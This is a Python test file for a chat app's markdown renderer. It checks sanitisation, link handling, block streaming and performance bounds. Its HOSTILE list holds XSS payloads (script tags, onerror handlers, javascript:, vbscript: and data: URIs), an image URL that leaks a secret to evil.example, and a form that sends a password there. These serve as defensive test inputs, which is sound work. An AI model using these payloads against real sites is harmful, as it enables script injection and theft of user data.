from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversations import markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "![x](https://evil.example/?d=secret)",
    '![x](x "onerror=alert(1)")',
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_inert(text: str) -> None:
    html = markdown.render(text).lower()
    for active in (
        "<script",
        "<img",
        "<svg",
        "<iframe",
        "<style",
        "<form",
        "<input",
        'href="java',
        'href="data',
        'href="vb',
    ):
        assert active not in html


def test_code_blocks_keep_their_language() -> None:
    assert '<code class="language-python">' in markdown.render("```python\nx = 1\n```")


def test_an_image_becomes_a_link_that_nobody_loads() -> None:
    html = markdown.render("![chart](https://example.org/chart.png)")
    assert "<img" not in html
    assert 'href="https://example.org/chart.png"' in html


def test_bare_addresses_are_links_without_referrer() -> None:
    html = markdown.render("see https://example.org/a")
    assert '<a href="https://example.org/a" rel="nofollow noopener noreferrer">' in html


def test_headings_begin_below_the_pages_own() -> None:
    assert markdown.render("# Title") == "<h3>Title</h3>\n"
    assert markdown.render("###### Deep") == "<h6>Deep</h6>\n"


def test_table_columns_are_aligned_by_class() -> None:
    html = markdown.render("|a|b|\n|:-|-:|\n|1|2|")
    assert '<td class="align-right">2</td>' in html
    assert "style=" not in html


def test_a_typed_line_break_stays_one_in_messages_only() -> None:
    assert "<br" in markdown.render("one\ntwo", breaks=True)
    assert "<br" not in markdown.render("one\ntwo")


def test_the_open_block_is_never_closed() -> None:
    assert markdown.closed_until("") == 0
    assert markdown.closed_until("one line") == 0
    assert markdown.closed_until("first\n\nsecond") == len("first\n\n")
    assert markdown.closed_until("```\na\n\nb\n") == 0
    assert markdown.closed_until("- a\n\n- b\n") == 0


blocks = st.sampled_from(
    [
        "para one\nmore",
        "# Head",
        "- a\n- b",
        "```py\nx\n\ny\n```",
        "> quote",
        "|a|\n|-|\n|1|",
        "1. x\n2. y",
    ]
)


@given(st.lists(blocks, min_size=1, max_size=6), st.integers(1, 7))
def test_blocks_rendered_as_they_close_equal_the_whole(parts: list[str], step: int) -> None:
    # Paragraphs between keep neighbouring lists and quotes from becoming one block.
    text = "\n\n---\n\n".join(parts)
    shown, tail = "", ""
    for start in range(0, len(text), step):
        tail += text[start : start + step]
        end = markdown.closed_until(tail)
        shown += markdown.render(tail[:end]) if end else ""
        tail = tail[end:]
    assert shown + markdown.render(tail) == markdown.render(text)


@pytest.mark.parametrize("character", ["\f", "\v", "\x85", "\u2028", "\r"])
def test_lines_end_where_markdown_ends_them(character: str) -> None:
    code = f"```\na{character}b{character}c\n```\n\n"

    assert markdown.closed_until(f"{code}end") == len(code)


def test_a_long_run_without_spaces_is_rendered_without_links() -> None:
    assert "<a " in markdown.render("http://a.example/" + "a" * 1000)
    assert "<a " not in markdown.render("http://a.example/" + "a" * 3000)


def test_the_longest_message_renders_in_bounded_time() -> None:
    for piece in (
        "http://a",
        "http://a.b/[",
        "[",
        "![",
        "> ",
        "*a ",
        "<div>",
        "`",
        "- " * 3,
        "|",
        "www.a.b ",
    ):
        markdown.render((piece * 32_000)[:32_000])
